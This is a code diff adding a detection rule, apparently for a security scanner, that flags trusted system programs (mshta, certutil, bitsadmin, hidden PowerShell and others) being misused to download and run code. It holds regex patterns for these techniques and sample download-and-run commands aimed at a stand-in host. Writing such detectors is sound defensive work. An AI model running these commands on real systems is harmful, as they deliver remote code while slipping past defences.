@@ -1,0 +1,72 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { isLocal } from '../../signals/hosts.ts'
+import { mentions } from '../../signals/mentions.ts'
+import { weightOfOrigin } from '../../signals/origins.ts'
+
+/** Parts of the system that fetch and run when asked in an odd way. */
+const SHAPES: readonly RegExp[] = [
+  /\bmshta(?:\.exe)?\b[^\n]{0,20}(?:https?:|javascript:|vbscript:)[^\n]{0,200}/,
+  /\brundll32(?:\.exe)?\b[^\n]{0,60}(?:javascript:|https?:|\\\\[\w.]{3,60}\\)[^\n]{0,160}/,
+  /\bregsvr32(?:\.exe)?\b[^\n]{0,40}\/i:https?:[^\n]{0,200}/,
+  /\bcertutil(?:\.exe)?\b[^\n]{0,40}-urlcache\b[^\n]{0,200}/,
+  /\bbitsadmin(?:\.exe)?\b[^\n]{0,60}\/transfer\b[^\n]{0,200}/,
+  /\bmsiexec(?:\.exe)?\b[^\n]{0,40}\/(?:i|q\w?|package)\b[^\n]{0,30}https?:[^\n]{0,200}/,
+  /\bwmic\b[^\n]{0,60}process call create\b[^\n]{0,160}/,
+  /\bosascript\b[^\n]{0,40}do shell script[^\n]{0,60}(?:curl|wget|base64)[^\n]{0,200}/,
+  /\bpowershell(?:\.exe)?\b[^\n]{0,60}-w(?:indowstyle)? hidden\b[^\n]{0,200}/,
+  /\b(?:installutil|msbuild|cmstp|odbcconf|regasm)(?:\.exe)?\b[^\n]{0,60}https?:[^\n]{0,160}/,
+  /\b(?:perl|ruby|node|php)\b -[er] [^\n]{0,120}https?:[^\n]{0,120}\b(?:exec|eval|system)\b[^\n]{0,80}/,
+]
+
+const ADDRESS = /https?:\/\/[^\s"'`<>)]{3,300}/g
+
+const CHARACTERS_BEFORE = 20
+const CHARACTERS_AFTER = 400
+
+export default defineRule({
+  id: 'system-tool-download',
+  since: 1,
+  category: 'execution',
+  severity: 'crit',
+  confidence: 'high',
+  cwe: 'CWE-494',
+  title: 'A part of the system is misused to fetch and run code',
+  description:
+    'The command has a trusted program of the system load code from elsewhere, or run it in a hidden window. It is done to pass by guards that trust that program.',
+  remediation: 'Install software with the package manager, in plain sight.',
+  harmlessIf: 'the file teaches defence and shows the command as an example',
+  needs: [['systemTool', 'interpreter']],
+  examples: {
+    fires: [
+      'mshta https://cdn.fieldlog.example/a.hta\n',
+      'certutil -urlcache -split -f https://cdn.fieldlog.example/a.exe a.exe\n',
+      '```\npowershell -w hidden -nop -c "iwr https://cdn.fieldlog.example/a"\n```\n',
+    ],
+    quiet: [
+      '```\ncertutil -hashfile setup.exe SHA256\n```\n',
+      '```\nmsiexec /i installer.msi /qn\n```\n',
+      '```bash\npython3 -c "import json; print(json.load(open(\'a.json\')))"\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    const { text, lines } = document.reading
+    const known = document.observe(mentions)
+    const done = new Set<number>()
+    for (const concept of ['systemTool', 'interpreter'] as const)
+      for (const { start } of known.of(concept)) {
+        const line = lines.at(start)
+        if (done.has(line)) continue
+        const from = Math.max(lines.start(line), start - CHARACTERS_BEFORE)
+        const window = text.slice(from, Math.min(lines.end(line), start + CHARACTERS_AFTER))
+        const found = SHAPES.map((shape) => shape.exec(window)).find(Boolean)
+        if (!found) continue
+        done.add(line)
+        const addresses = found[0].match(ADDRESS) ?? []
+        if (addresses.length > 0 && addresses.every(isLocal)) continue
+        const place = { start: from + found.index, end: from + found.index + found[0].length }
+        if (addresses.length > 0) yield { ...place, ...weightOfOrigin(document, start, addresses) }
+        else yield { ...place, severity: 'high', firm: true }
+      }
+  },
+})
